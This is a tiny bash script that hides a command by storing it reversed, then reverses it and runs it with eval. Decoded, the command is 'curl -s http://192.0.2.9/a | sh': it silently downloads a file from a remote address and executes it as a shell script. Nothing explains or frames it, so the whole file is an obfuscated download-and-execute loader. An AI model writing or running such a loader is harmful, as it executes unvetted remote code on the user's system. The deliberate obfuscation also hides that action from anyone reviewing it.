#!/bin/bash
a='hs | a/9.2.0.291//:ptth s- lruc'
eval "$(rev <<< "$a")"
